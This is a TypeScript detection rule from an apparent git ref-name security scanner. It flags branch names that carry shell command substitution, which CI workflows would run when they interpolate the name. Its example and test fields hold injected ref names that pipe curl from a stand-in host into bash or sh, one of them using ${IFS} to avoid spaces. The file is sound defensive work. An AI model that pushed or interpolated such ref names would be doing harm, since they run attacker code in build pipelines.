// CG-REF-001: command substitution in a ref name ($( … ), backticks, <( … )).
import type {RuleMeta} from '../../report/rule-meta.js'
import type {Hit, NameRule} from '../types.js'
import {COMMAND_SUBSTITUTION} from './patterns.js'

export const meta: RuleMeta = {
  id: 'CG-REF-001',
  title: 'Command substitution in a ref name',
  severity: 'critical',
  description: `The name contains $( … ), a backtick pair or <( … ): any script or workflow that interpolates it into a shell (echo "\${{ github.head_ref }}", git pull origin $BRANCH) runs the command. This is how the Ultralytics (2024) and hackerbot-claw (2026) attacks worked; git accepts such names.`,
  remediation: 'delete the ref (git push origin --delete NAME); in workflows pass ref names through env: and quote them ("$HEAD_REF")',
  example: {bad: 'main$(curl -sSfL evil.example/p|bash)', good: 'feature/JIRA-123-login'},
  examples: {
    flagged: ['main$(curl -sSfL evil.example/p|bash)', `fix\`curl\${IFS}evil.example/x|sh\``],
    clean: ['feature/JIRA-123-login', 'fix/price-rounding'],
  },
}

export const rule: NameRule = {
  meta,
  check(name: string): Hit[] {
    const match = COMMAND_SUBSTITUTION.exec(name)
    return match ? [{message: `command substitution "${match[0].slice(0, 40)}" in the name runs when the name reaches a shell`}] : []
  },
}
